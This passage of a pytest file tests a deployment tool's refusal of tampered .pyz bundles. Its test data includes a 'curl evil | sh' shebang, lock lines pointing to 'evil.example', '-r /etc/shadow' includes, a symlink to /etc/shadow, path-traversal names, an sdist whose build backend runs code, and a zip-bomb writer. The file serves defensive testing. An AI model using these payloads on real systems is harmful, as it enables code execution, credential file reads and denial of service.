"""Verifying and unpacking bundles, without the network: every way a .pyz can lie is refused.

The bundles here are written by the real zip writer around stand-in wheels, then rewritten
member by member the way an attacker (or a bad copy) would; `test_bundle.py` checks the same
on a real build.
"""

from __future__ import annotations

import dataclasses
import hashlib
import io
import json
import os
import re
import shutil
import stat
import struct
import subprocess
import sys
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest

from integrator.bundle import manifest as mf
from integrator.bundle import members, venv
from integrator.bundle.commands import spec_json, verify
from integrator.bundle.lockfile import wheel_pin
from integrator.bundle.manifest import InstallTarget, Manifest, extract_verified, verify_zip
from integrator.bundle.sign import sign_manifest
from integrator.bundle.wheelinstall import install_wheels
from integrator.bundle.zipapp import MAIN_PY, file_entries, host_code, package_dir, pyz_bytes, write_pyz
from integrator.errors import BundleError, HostError, UsageError
from integrator.host import pyzmain
from integrator.host.deploy_options import DeployOptions
from integrator.spec import parse_spec

SPEC = parse_spec({"service": {"name": "shop", "version": "1.2.0", "entry": "shop:create_app()"}})
APP_WHEEL = "shop-1.2.0-py3-none-any.whl"
LOCK = "payload/locks/cp311-x86_64.txt"


def tiny_wheel(name: str, version: str, files: dict[str, bytes] | None = None) -> bytes:
    """A minimal real wheel (a zip with its .dist-info), the same bytes every time."""
    dist_info = f"{name}-{version}.dist-info"
    members = {
        f"{name}/__init__.py": b"",
        **(files or {}),
        f"{dist_info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode(),
        f"{dist_info}/WHEEL": b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        f"{dist_info}/RECORD": b"",
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for member, data in members.items():
            zf.writestr(zipfile.ZipInfo(member, date_time=(2026, 1, 1, 0, 0, 0)), data)
    return buf.getvalue()


APP_BYTES = tiny_wheel("shop", "1.2.0", {"shop/app.py": b"def create_app(): ...\n" * 20})
DEP_BYTES = tiny_wheel("dep", "1.0", {"dep/data.txt": b"another stand-in wheel " * 40})


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


LOCK_TEXT = (
    "# integrator lock for CPython 3.11 on x86_64 (wheels in ../wheelhouse)\n"
    f"dep==1.0 --hash=sha256:{sha256(DEP_BYTES)}\n"
    f"shop==1.2.0 --hash=sha256:{'0' * 64} --hash=sha256:{sha256(APP_BYTES)}\n"
)


def _members() -> dict[str, bytes | Path]:
    members: dict[str, bytes | Path] = {"__main__.py": MAIN_PY, **host_code(package_dir())}
    members.update(
        {
            mf.SPEC_PATH: spec_json(SPEC),
            f"{mf.WHEELHOUSE}/{APP_WHEEL}": APP_BYTES,
            f"{mf.WHEELHOUSE}/dep-1.0-py3-none-any.whl": DEP_BYTES,
            LOCK: LOCK_TEXT.encode(),
        }
    )
    return members


def _manifest(members: dict[str, bytes | Path]) -> Manifest:
    return Manifest(
        name=SPEC.name,
        version=SPEC.version,
        source_commit="0123456789abcdef0123456789abcdef01234567",
        dirty=False,
        built_at="2026-01-01T00:00:00Z",
        builder="integrator test",
        app_wheel=APP_WHEEL,
        spec=SPEC.to_dict(),
        targets=(InstallTarget("3.11", "x86_64", "manylinux_2_28_x86_64", "2.17", LOCK),),
        files=file_entries(members),
    )


def make_bundle(path: Path, signing_key: Path | None = None) -> Path:
    members = _members()
    data = _manifest(members).to_json()
    signature = sign_manifest(data, signing_key) if signing_key else None
    write_pyz(path, members, data, signature, epoch=1767225600)
    return path


@pytest.fixture
def bundle(tmp_path: Path) -> Path:
    return make_bundle(tmp_path / "shop-1.2.0.pyz")


# --- rewriting a zip the way an attacker would ---------------------------------------------

Entry = tuple[zipfile.ZipInfo, bytes]


def read_entries(path: Path) -> list[Entry]:
    with zipfile.ZipFile(path) as zf:
        return [(info, zf.read(info)) for info in zf.infolist()]


def write_entries(path: Path, entries: list[Entry], prefix: bytes = mf.SHEBANG, comment: bytes = b"") -> Path:
    buf = io.BytesIO()
    buf.write(prefix)
    with warnings.catch_warnings(), zipfile.ZipFile(buf, "w") as zf:
        warnings.simplefilter("ignore")  # "Duplicate name": that is the point of one case
        for info, data in entries:
            zf.writestr(info, data)
        zf.comment = comment
    path.write_bytes(buf.getvalue())
    return path


def new_info(name: str, mode: int = stat.S_IFREG | 0o644) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
    info.create_system = 3
    info.external_attr = mode << 16
    return info


def relocked(entries: list[Entry]) -> list[Entry]:
    """The attacker also rewrites the lock to pin the wheels now in the wheelhouse."""
    prefix = mf.WHEELHOUSE + "/"
    pins = sorted(
        f"{pin[0]}=={pin[1]} --hash=sha256:{sha256(d)}"
        for i, d in entries
        if i.filename.startswith(prefix) and (pin := wheel_pin(i.filename[len(prefix) :])) is not None
    )
    lock = ("\n".join(pins) + "\n").encode()
    return [(i, lock if i.filename == LOCK else d) for i, d in entries]


def with_rewritten_manifest(entries: list[Entry]) -> list[Entry]:
    """The attacker also updates manifest.json to match (possible when nothing is signed)."""
    files = {
        info.filename: data
        for info, data in entries
        if info.filename not in (mf.MANIFEST_NAME, mf.SIGNATURE_NAME)
    }
    old = Manifest.from_json(dict((i.filename, d) for i, d in entries)[mf.MANIFEST_NAME], "x")
    new = dataclasses.replace(old, files=file_entries(files))
    return [(i, d) for i, d in entries if i.filename != mf.MANIFEST_NAME] + [
        (new_info(mf.MANIFEST_NAME), new.to_json())
    ]


def flip_byte(entries: list[Entry], name_part: str) -> list[Entry]:
    out = []
    for info, data in entries:
        if name_part in info.filename:
            data = data[:10] + bytes([data[10] ^ 0x01]) + data[11:]
        out.append((info, data))
    return out


Tamper = Callable[[list[Entry]], list[Entry]]
TAMPERS: dict[str, tuple[Tamper, str]] = {
    "changed byte in a wheel": (lambda e: flip_byte(e, "dep-1.0"), "sha256 differs"),
    "changed byte in host code": (lambda e: flip_byte(e, "bundle/venv.py"), "sha256 differs"),
    "added member": (lambda e: [*e, (new_info("payload/extra.py"), b"evil")], "not in the manifest"),
    "removed member": (
        lambda e: [(i, d) for i, d in e if "dep-1.0" not in i.filename],
        "missing from the bundle",
    ),
    "member ../evil": (lambda e: [*e, (new_info("../evil"), b"x")], "'..' in path"),
    "member ../evil, manifest updated": (
        lambda e: with_rewritten_manifest([*e, (new_info("payload/../../evil"), b"x")]),
        "'..' in path",
    ),
    "absolute member /etc/x": (lambda e: [*e, (new_info("/etc/x"), b"x")], "absolute path"),
    "absolute member, manifest updated": (
        lambda e: with_rewritten_manifest([*e, (new_info("/etc/x"), b"x")]),
        "absolute path",
    ),
    "backslash member": (lambda e: [*e, (new_info("..\\evil"), b"x")], "backslash"),
    "symlink member, manifest updated": (
        lambda e: with_rewritten_manifest(
            [*e, (new_info("payload/link", stat.S_IFLNK | 0o777), b"/etc/shadow")]
        ),
        "symbolic link",
    ),
    "duplicate member": (
        lambda e: [*e, (new_info(f"{mf.WHEELHOUSE}/dep-1.0-py3-none-any.whl"), b"second copy")],
        "appears twice",
    ),
    "directory entry": (lambda e: [*e, (new_info("payload/dir/", stat.S_IFDIR | 0o755), b"")], "directory"),
    "file and directory of one name": (
        lambda e: with_rewritten_manifest([*e, (new_info("__main__.py/x"), b"x")]),
        "both a file and a directory",
    ),
    "manifest removed": (
        lambda e: [(i, d) for i, d in e if i.filename != mf.MANIFEST_NAME],
        "no manifest.json",
    ),
    "manifest not JSON": (
        lambda e: [(i, b"{" if i.filename == mf.MANIFEST_NAME else d) for i, d in e],
        "not valid JSON",
    ),
    "spec.json edited, manifest updated": (
        lambda e: with_rewritten_manifest(
            [(i, d.replace(b'"shop"', b'"evil"') if i.filename == mf.SPEC_PATH else d) for i, d in e]
        ),
        "differ",
    ),
}


@pytest.mark.parametrize("case", list(TAMPERS))
def test_each_tampering_is_refused_with_one_line_naming_the_bundle(
    bundle: Path, tmp_path: Path, case: str
) -> None:
    tamper, expected = TAMPERS[case]
    bad = write_entries(tmp_path / "bad.pyz", tamper(read_entries(bundle)))
    with pytest.raises(BundleError) as err:
        verify_zip(bad)
    message = str(err.value)
    assert expected in message, message
    assert "\n" not in message and str(bad) in message


def test_an_untouched_bundle_verifies(bundle: Path) -> None:
    manifest = verify_zip(bundle)
    assert manifest.name == "shop" and manifest.app_wheel == APP_WHEEL
    result = verify(bundle)
    assert result.exit_code == 0 and result.lines[0] == f"ok {bundle}"
    assert result.data["files"] == len(manifest.files)
    assert "signature unsigned" in " ".join(result.lines).replace("  ", " ")


def test_an_in_memory_pyz_is_reproducible_and_runs(tmp_path: Path) -> None:
    """pyz_bytes (for zips shipped but not kept, like the host tool): same input, same bytes."""
    members: dict[str, bytes | Path] = {"__main__.py": b"print('ran')\n", "pkg/data.txt": tmp_path / "data"}
    (tmp_path / "data").write_bytes(b"x" * 100)
    data = pyz_bytes(members)
    assert data == pyz_bytes(dict(reversed(members.items()))) and data.startswith(mf.SHEBANG)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        assert zf.namelist() == ["__main__.py", "pkg/data.txt"] and zf.read("pkg/data.txt") == b"x" * 100
    (tmp_path / "t.pyz").write_bytes(data)
    ran = subprocess.run([sys.executable, str(tmp_path / "t.pyz")], capture_output=True, text=True)
    assert ran.stdout == "ran\n"


def test_the_rewriter_itself_keeps_a_bundle_valid(bundle: Path, tmp_path: Path) -> None:
    """So the refusals above come from the tampering, not from how the test rewrites zips."""
    verify_zip(write_entries(tmp_path / "same.pyz", read_entries(bundle)))


def test_a_changed_shebang_and_a_zip_comment_are_refused(bundle: Path, tmp_path: Path) -> None:
    entries = read_entries(bundle)
    with pytest.raises(BundleError, match="before the zip"):
        verify_zip(write_entries(tmp_path / "sh.pyz", entries, prefix=b"#!/bin/sh\ncurl evil | sh\n"))
    with pytest.raises(BundleError, match="zip comment"):
        verify_zip(write_entries(tmp_path / "c.pyz", entries, comment=b"hidden"))


def test_a_size_that_lies_is_refused(bundle: Path, tmp_path: Path) -> None:
    entries = [(i, d + b"more" if "dep-1.0" in i.filename else d) for i, d in read_entries(bundle)]
    with pytest.raises(BundleError, match=r"size \d+ differs"):
        verify_zip(write_entries(tmp_path / "bad.pyz", entries))


def test_not_a_zip_and_missing_file_are_one_line_errors(tmp_path: Path) -> None:
    junk = tmp_path / "junk.pyz"
    junk.write_bytes(b"#!/usr/bin/env python3\nprint('hi')\n")
    with pytest.raises(BundleError, match="not a bundle"):
        verify_zip(junk)
    with pytest.raises(UsageError, match="no such bundle") as missing:  # bad input: exit 2
        verify_zip(tmp_path / "absent.pyz")
    assert missing.value.exit_code == 2


def test_manifest_parsing_is_strict() -> None:
    good = json.loads(_manifest(_members()).to_json())
    assert Manifest.from_json(json.dumps(good).encode(), "b") == _manifest(_members())
    for broken, message in (
        ({**good, "format": 2}, "format 2"),
        ({**good, "surprise": 1}, "unexpected keys"),
        ({**good, "dirty": "no"}, "dirty must be a bool"),
        ({**good, "files": {"a": {"sha256": "zz", "size": 1}}}, "64 lowercase hex"),
        ({**good, "files": {"a": {"sha256": "0" * 64, "size": True}}}, "size must be a int"),
    ):
        with pytest.raises(BundleError, match=message):
            Manifest.from_json(json.dumps(broken).encode(), "b")


# --- extraction --------------------------------------------------------------------------------


def test_extract_writes_every_listed_file_below_dest_only(bundle: Path, tmp_path: Path) -> None:
    dest = tmp_path / "release"
    dest.mkdir()
    old = os.umask(0o077)  # root's umask on a hardened host must not make files unreadable
    try:
        manifest = extract_verified(bundle, dest)
    finally:
        os.umask(old)
    written = sorted(p.relative_to(dest).as_posix() for p in dest.rglob("*") if p.is_file())
    assert written == sorted([*manifest.files, mf.MANIFEST_NAME])
    assert (dest / mf.SPEC_PATH).read_bytes() == zipfile.ZipFile(bundle).read(mf.SPEC_PATH)
    assert all(stat.S_IMODE(p.stat().st_mode) == 0o644 for p in dest.rglob("*") if p.is_file())
    assert all(stat.S_IMODE(p.stat().st_mode) == 0o755 for p in dest.rglob("*") if p.is_dir())
    assert (dest / mf.MANIFEST_NAME).read_bytes() == zipfile.ZipFile(bundle).read(mf.MANIFEST_NAME)


def test_extract_of_a_bad_bundle_writes_nothing_anywhere(bundle: Path, tmp_path: Path) -> None:
    bad = write_entries(
        tmp_path / "bad.pyz",
        with_rewritten_manifest([*read_entries(bundle), (new_info("payload/../../escaped"), b"x")]),
    )
    dest = tmp_path / "a" / "release"
    dest.mkdir(parents=True)
    with pytest.raises(BundleError):
        extract_verified(bad, dest)
    assert list(dest.iterdir()) == [] and not (tmp_path / "escaped").exists()


def test_extract_needs_an_empty_directory(bundle: Path, tmp_path: Path) -> None:
    (tmp_path / "x").write_text("already here")
    with pytest.raises(BundleError, match="empty directory"):
        extract_verified(bundle, tmp_path)


def test_member_name_rules() -> None:
    assert mf.check_member_name("payload/wheelhouse/a.whl") is None
    for name in ("", "/abs", "C:/x", "a/../b", "a//b", "./a", "a/", "a\\b", "a\0b"):
        assert mf.check_member_name(name) is not None, name


# --- signatures ----------------------------------------------------------------------------------


def _keypair(tmp_path: Path, name: str) -> tuple[Path, Path]:
    if shutil.which("ssh-keygen") is None:
        pytest.skip("ssh-keygen not installed")
    key = tmp_path / name
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(key)], check=True)
    signers = tmp_path / f"{name}.allowed"
    signers.write_text("integrator " + key.with_suffix(".pub").read_text())
    return key, signers


def test_signed_bundle_verifies_only_against_its_key(tmp_path: Path) -> None:
    key, signers = _keypair(tmp_path, "release")
    _, other_signers = _keypair(tmp_path, "other")
    signed = make_bundle(tmp_path / "signed.pyz", signing_key=key)
    result = verify(signed, allowed_signers=signers)
    assert result.data["signature"].startswith("good: ") and "integrator" in result.data["signature"]
    with pytest.raises(BundleError, match="signature is not valid"):
        verify(signed, allowed_signers=other_signers)
    assert verify(signed).data["signature"].startswith("present, not checked")
    with pytest.raises(BundleError, match="not signed"):
        verify(make_bundle(tmp_path / "plain.pyz"), allowed_signers=signers)


def test_signature_covers_every_file_through_the_manifest(tmp_path: Path) -> None:
    key, signers = _keypair(tmp_path, "release")
    signed = make_bundle(tmp_path / "signed.pyz", signing_key=key)
    # swap a wheel and rewrite the manifest to match: hashes agree, the signature does not
    forged = write_entries(
        tmp_path / "forged.pyz", with_rewritten_manifest(relocked(flip_byte(read_entries(signed), "dep-1")))
    )
    verify(forged)  # without --allowed-signers this only proves internal consistency
    with pytest.raises(BundleError, match="signature is not valid"):
        verify(forged, allowed_signers=signers)


def test_signing_names_a_missing_key(tmp_path: Path) -> None:
    with pytest.raises(BundleError, match="no such signing key"):
        sign_manifest(b"{}", tmp_path / "absent")


# --- choosing a lock, building a venv --------------------------------------------------------------


def test_pick_target_matches_python_and_machine() -> None:
    manifest = _manifest(_members())
    assert venv.pick_target(manifest, "3.11.2", "x86_64") == LOCK
    assert venv.pick_target(manifest, "3.11", "AMD64", glibc="2.36") == LOCK


def test_pick_target_names_what_the_bundle_has() -> None:
    manifest = _manifest(_members())
    with pytest.raises(
        HostError,
        match=r"no build for this host's Python 3\.9 on x86_64 \(it has: Python 3\.11 on x86_64\); rebuild",
    ):
        venv.pick_target(manifest, "3.9.18", "x86_64")
    with pytest.raises(HostError, match=r"no build for this host's Python 3\.11 on aarch64"):
        venv.pick_target(manifest, "3.11", "arm64")
    with pytest.raises(HostError, match=r"need glibc >= 2\.17, this host has 2\.12"):
        venv.pick_target(manifest, "3.11", "x86_64", glibc="2.12")


def test_build_venv_refuses_an_existing_venv(tmp_path: Path) -> None:
    (tmp_path / "venv").mkdir()
    (tmp_path / "venv" / "pyvenv.cfg").write_text("")
    with pytest.raises(HostError, match="already exists"):
        venv.build_venv(tmp_path / "venv", tmp_path, tmp_path / "lock.txt")


# --- the bundle's own command line -------------------------------------------------------------------


def test_pyz_verify_runs_from_the_bundle_itself(bundle: Path) -> None:
    proc = subprocess.run([sys.executable, "-I", str(bundle), "verify"], capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.startswith(f"ok {bundle}")
    for argv in (["--json", "verify"], ["verify", "--json", "--local"]):
        proc = subprocess.run([sys.executable, "-I", str(bundle), *argv], capture_output=True, text=True)
        assert json.loads(proc.stdout)["name"] == "shop"


def test_pyz_verify_of_a_tampered_copy_is_one_line_exit_1(bundle: Path, tmp_path: Path) -> None:
    bad = write_entries(tmp_path / "bad.pyz", flip_byte(read_entries(bundle), "dep-1.0"))
    proc = subprocess.run([sys.executable, "-I", str(bad), "verify"], capture_output=True, text=True)
    assert proc.returncode == 1
    assert proc.stderr.count("\n") == 1 and "sha256 differs" in proc.stderr


def test_pyz_name_verbs_default_to_the_bundles_service(bundle: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from integrator.host import verbs
    from integrator.result import Result

    calls: list[tuple[str, object]] = []

    def called(verb: str, what: object) -> Result:
        calls.append((verb, what))
        return Result()

    monkeypatch.setattr(verbs, "status", lambda system, name: called("status", name))
    monkeypatch.setattr(verbs, "rollback", lambda system, name, to: called("rollback", name))
    monkeypatch.setattr(
        verbs, "deploy_here", lambda s, options: called("deploy", (options.bundle, options.plan_only))
    )
    monkeypatch.setattr(verbs, "releases", lambda system, name: called("releases", name))
    assert pyzmain.main(["status"], bundle=bundle) == 0
    assert pyzmain.main(["status", "--all"], bundle=bundle) == 0
    assert pyzmain.main(["rollback", "other"], bundle=bundle) == 0
    assert pyzmain.main(["deploy", "--plan"], bundle=bundle) == 0
    assert pyzmain.main(["releases"], bundle=bundle) == 0
    assert calls == [
        ("status", "shop"),
        ("status", None),
        ("rollback", "other"),
        ("deploy", (bundle, True)),
        ("releases", "shop"),
    ]


def test_pyz_deploy_with_allowed_signers_refuses_an_unsigned_bundle(
    bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from integrator.host import deploy

    def never(*args: object, **kwargs: object) -> None:
        raise AssertionError("deploy must not start")

    monkeypatch.setattr(deploy, "deploy_local", never)
    _, signers = _keypair(tmp_path, "release")
    assert pyzmain.main(["deploy", "--allowed-signers", str(signers)], bundle=bundle) == 1
    assert "not signed" in capsys.readouterr().err


def test_deploy_checks_the_signature_before_the_bundle_goes_anywhere(tmp_path: Path) -> None:
    """`integrator deploy --allowed-signers` refuses here, so no host ever sees the bundle."""
    from integrator.targets import commands
    from integrator.targets.transport import SshTarget

    key, signers = _keypair(tmp_path, "release")
    _, other_signers = _keypair(tmp_path, "other")
    signed = make_bundle(tmp_path / "signed.pyz", signing_key=key)
    unreachable = SshTarget("root@127.0.0.1")  # never contacted: the check comes first
    with pytest.raises(BundleError, match="signature is not valid"):
        commands.deploy(DeployOptions(signed, allowed_signers=other_signers), unreachable)
    with pytest.raises(BundleError, match="not signed"):
        commands.deploy(
            DeployOptions(make_bundle(tmp_path / "plain.pyz"), allowed_signers=signers), unreachable
        )


# --- locks and wheelhouse: nothing but pinned wheels (issue 8, finding 3) ----------------------------


def with_lock(entries: list[Entry], text: str) -> list[Entry]:
    """The lock replaced, and the manifest rewritten so every hash still agrees."""
    return with_rewritten_manifest([(i, text.encode() if i.filename == LOCK else d) for i, d in entries])


def lock_with_line(line: str) -> str:
    header, rest = LOCK_TEXT.split("\n", 1)
    return f"{header}\n{line}\n{rest}"


APP_PIN = f"shop==1.2.0 --hash=sha256:{sha256(APP_BYTES)}"
NOT_A_PIN = "line 2 is not `name==version --hash=sha256:...`"
HOSTILE_LOCK_LINES = {
    "--no-binary": "--no-binary evil",
    "--no-binary=:all:": "--no-binary=:all:",
    "include another file": "-r /etc/shadow",
    "constraints file": "-c /etc/passwd",
    "editable project": "-e .",
    "index url": "--index-url http://evil.example/simple",
    "find links": "--find-links /tmp",
    "pre-releases": "--pre",
    "direct URL": "evil @ https://evil.example/evil-1.0.tar.gz",
    "sdist path": f"./payload/wheelhouse/evil-1.0.tar.gz --hash=sha256:{'a' * 64}",
    "option after a pin": f"{APP_PIN} --no-binary shop",
    "line continuation": f"{APP_PIN} \\",
    "comment continuation": "# harmless \\",
    "not canonical": f"Shop==1.2.0 --hash=sha256:{sha256(APP_BYTES)}",
    "range": f"shop>=1.0 --hash=sha256:{sha256(APP_BYTES)}",
    "no hash": "shop==1.2.0",
    "md5": f"shop==1.2.0 --hash=md5:{'a' * 32}",
    "environment variable": f"shop==${{VERSION}} --hash=sha256:{sha256(APP_BYTES)}",
    "marker": f'shop==1.2.0; python_version > "3" --hash=sha256:{sha256(APP_BYTES)}',
    "carriage return": f"{APP_PIN}\r--no-binary shop",
    "blank line": "",
    "leading space": f" {APP_PIN}",
    "tab": f"{APP_PIN}\t",
}


@pytest.mark.parametrize("case", list(HOSTILE_LOCK_LINES))
def test_a_lock_holds_nothing_but_pins(bundle: Path, tmp_path: Path, case: str) -> None:
    text = lock_with_line(HOSTILE_LOCK_LINES[case])
    bad = write_entries(tmp_path / "bad.pyz", with_lock(read_entries(bundle), text))
    with pytest.raises(BundleError) as err:
        verify_zip(bad)
    message = str(err.value)
    assert f"{bad}: {LOCK}: {NOT_A_PIN}" in message and "\n" not in message, message


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (lock_with_line(APP_PIN), "line 4 pins shop again (line 2)"),
        (lock_with_line("# \u00e9t\u00e9"), "lock is not ASCII text"),
        (LOCK_TEXT.rstrip("\n"), "does not end with a newline"),
        ("# only a comment\n", "lock pins nothing"),
        ("# padding\n" * 120_000 + LOCK_TEXT, f"{LOCK} is 1200"),
        (LOCK_TEXT.replace("dep==1.0", "dep==1.1"), "line 2 pins dep==1.1, but no wheel in the wheelhouse"),
        (LOCK_TEXT.replace(sha256(DEP_BYTES), "f" * 64), "pins dep==1.0, but no wheel in the wheelhouse"),
        (LOCK_TEXT.split("shop==")[0], "does not pin the app wheel shop-1.2.0-py3-none-any.whl"),
        (
            LOCK_TEXT.replace(f"dep==1.0 --hash=sha256:{sha256(DEP_BYTES)}\n", ""),
            "dep-1.0-py3-none-any.whl is pinned by no lock",
        ),
    ],
)
def test_every_pin_names_one_wheel_and_every_wheel_is_pinned(
    bundle: Path, tmp_path: Path, text: str, expected: str
) -> None:
    bad = write_entries(tmp_path / "bad.pyz", with_lock(read_entries(bundle), text))
    with pytest.raises(BundleError, match=re.escape(expected)):
        verify_zip(bad)


RAN = "ran as root"


def sdist(marker: Path) -> bytes:
    """A real sdist whose in-tree build backend (no build requirements) writes `marker` when run."""
    files = {
        "evil-1.0/pyproject.toml": b"[build-system]\nrequires = []\n"
        b'build-backend = "backend"\nbackend-path = ["."]\n',
        "evil-1.0/backend.py": f"open({str(marker)!r}, 'w').write({RAN!r})\n".encode(),
        "evil-1.0/PKG-INFO": b"Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
    }
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def test_an_sdist_in_the_wheelhouse_is_refused_even_when_pinned(bundle: Path, tmp_path: Path) -> None:
    data = sdist(tmp_path / "PWNED")
    entries = [*read_entries(bundle), (new_info(f"{mf.WHEELHOUSE}/evil-1.0.tar.gz"), data)]
    text = lock_with_line(f"evil==1.0 --hash=sha256:{sha256(data)}")
    bad = write_entries(tmp_path / "bad.pyz", with_lock(entries, text))
    with pytest.raises(
        BundleError, match=r"wheelhouse member 'evil-1\.0\.tar\.gz' refused: not a wheel file name"
    ):
        verify_zip(bad)


def test_the_payload_holds_only_spec_locks_and_wheels(bundle: Path, tmp_path: Path) -> None:
    entries = with_rewritten_manifest([*read_entries(bundle), (new_info("payload/setup.py"), b"import os")])
    with pytest.raises(BundleError, match=re.escape("'payload/setup.py' refused: the payload holds only")):
        verify_zip(write_entries(tmp_path / "bad.pyz", entries))
    nested = with_rewritten_manifest(
        [*read_entries(bundle), (new_info(f"{mf.WHEELHOUSE}/x/a-1-py3-none-any.whl"), b"x")]
    )
    with pytest.raises(
        BundleError, match=re.escape("'x/a-1-py3-none-any.whl' refused: not a wheel file name")
    ):
        verify_zip(write_entries(tmp_path / "nested.pyz", nested))


def test_the_host_checks_the_lock_again_right_before_installing(bundle: Path, tmp_path: Path) -> None:
    """A lock or wheelhouse changed after `verify` (or never verified) is refused before any venv exists."""
    dest = tmp_path / "release"
    dest.mkdir()
    extract_verified(bundle, dest)
    lock, wheelhouse, target = dest / LOCK, dest / mf.WHEELHOUSE, tmp_path / "venv"
    lock.write_text(lock_with_line("--no-binary evil"))
    with pytest.raises(BundleError, match=re.escape(f"{lock}: {NOT_A_PIN}")):
        venv.build_venv(target, wheelhouse, lock, python=sys.executable)
    data = sdist(tmp_path / "PWNED")
    (wheelhouse / "evil-1.0.tar.gz").write_bytes(data)
    lock.write_text(lock_with_line(f"evil==1.0 --hash=sha256:{sha256(data)}"))
    with pytest.raises(BundleError, match=re.escape("'evil-1.0.tar.gz' refused: not a wheel file name")):
        venv.build_venv(target, wheelhouse, lock, python=sys.executable)
    assert not target.exists() and not (tmp_path / "PWNED").exists()


def test_the_installer_gets_only_the_pinned_wheels(bundle: Path, tmp_path: Path) -> None:
    dest = tmp_path / "release"
    dest.mkdir()
    extract_verified(bundle, dest)
    wheelhouse = dest / mf.WHEELHOUSE
    (wheelhouse / "extra-1.0-py3-none-any.whl").write_bytes(tiny_wheel("extra", "1.0"))  # not pinned
    assert venv.locked_wheel_digests(wheelhouse, dest / LOCK) == {
        "dep-1.0-py3-none-any.whl": sha256(DEP_BYTES),
        APP_WHEEL: sha256(APP_BYTES),
    }


def test_the_installer_cannot_build_even_if_the_lock_check_were_bypassed(tmp_path: Path) -> None:
    """The attack of finding 3 handed straight to the host's installer: an sdist, under its own
    name or a wheel's, is refused as not a wheel; nothing of it runs. The control (pip building
    the same sdist) shows it is a working attack: its in-tree build backend runs."""
    marker, wheelhouse = tmp_path / "PWNED", tmp_path / "wheelhouse"
    wheelhouse.mkdir()
    data = sdist(marker)
    env_dir = tmp_path / "venv"
    subprocess.run(venv.venv_command(sys.executable, env_dir), check=True, capture_output=True)
    for name in ("evil-1.0.tar.gz", "evil-1.0-py3-none-any.whl"):
        (wheelhouse / name).write_bytes(data)
        with pytest.raises(BundleError, match="not a wheel"):
            install_wheels(env_dir, [wheelhouse / name])
    assert not marker.exists() and not list(env_dir.glob("lib/*/site-packages/evil*"))
    control = [sys.executable, "-m", "pip", "wheel", "--no-deps", "--no-index", "-w", str(tmp_path / "out")]
    subprocess.run([*control, str(wheelhouse / "evil-1.0.tar.gz")], capture_output=True, timeout=300)
    assert marker.read_text() == RAN  # the control: given to a builder, the sdist's code ran


# --- names, sizes, bytes outside the zip (issue 8, findings 5 and "also") ------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("payload/" + "a" * 300, "a path component longer than 255 bytes"),
        ("payload/" + "/".join(["b" * 200] * 6), "name longer than 1024 bytes"),
        ("payload/\u00e9t\u00e9", "control or non-ASCII character"),
        ("payload/a\rb", "control or non-ASCII character"),
        ("payload/SPEC.json", "differs from 'payload/spec.json' only by case"),
    ],
)
def test_names_the_host_cannot_write_are_refused(
    bundle: Path, tmp_path: Path, name: str, expected: str
) -> None:
    bad = write_entries(
        tmp_path / "bad.pyz", with_rewritten_manifest([*read_entries(bundle), (new_info(name), b"x")])
    )
    with pytest.raises(BundleError, match=re.escape(expected)):
        verify_zip(bad)


def test_too_many_members_are_refused_before_any_is_read(
    bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    extra = [(new_info(f"payload/many/{n}"), b"") for n in range(members.MAX_MEMBERS)]
    bad = write_entries(tmp_path / "bad.pyz", with_rewritten_manifest([*read_entries(bundle), *extra]))
    with pytest.raises(
        BundleError, match=rf"\d+ members, more than a bundle may hold \({members.MAX_MEMBERS}\)"
    ):
        verify_zip(bad)


def test_appended_bytes_after_the_zip_are_refused(bundle: Path, tmp_path: Path) -> None:
    bad = tmp_path / "bad.pyz"
    for tail in (b"\n", b"#!/bin/sh\ncurl evil | sh\n", b"x" * 1000):
        bad.write_bytes(bundle.read_bytes() + tail)
        with pytest.raises(BundleError, match="unexpected bytes after the end of the zip"):
            verify_zip(bad)


MIB = 1 << 20


class _ZerosDeflater:
    """Deflate for zeros without the work: after a full flush, 1 MiB of zeros is always the same ~1 KiB."""

    def __init__(self) -> None:
        deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
        self.chunk = deflate.compress(bytes(MIB)) + deflate.flush(zlib.Z_FULL_FLUSH)
        self.end = deflate.flush()

    def compress(self, data: bytes) -> bytes:
        assert len(data) == MIB
        return self.chunk

    def flush(self) -> bytes:
        return self.end


def write_zeros(zf: zipfile.ZipFile, bombs: dict[str, int]) -> None:
    """Members of N MiB of zeros each, written in about a second per GiB (only the CRC is computed)."""
    zero = bytes(MIB)
    for name, mib in bombs.items():
        info = new_info(name)
        info.compress_type = zipfile.ZIP_DEFLATED
        with zf.open(info, "w") as out:
            out._compressor = _ZerosDeflater()  # type: ignore[attr-defined]
            for _ in range(mib):
                out.write(zero)


def write_bomb(path: Path, entries: list[Entry], bombs: dict[str, int]) -> Path:
    """`entries` plus members of N MiB of zeros (~1 KiB each per MiB), the manifest rewritten to match."""
    zero = bytes(MIB)
    digests: dict[int, str] = {}
    for mib in set(bombs.values()):
        digest = hashlib.sha256()
        for _ in range(mib):
            digest.update(zero)
        digests[mib] = digest.hexdigest()
    body = [(i, d) for i, d in entries if i.filename not in (mf.MANIFEST_NAME, mf.SIGNATURE_NAME)]
    old = Manifest.from_json(dict((i.filename, d) for i, d in entries)[mf.MANIFEST_NAME], "x")
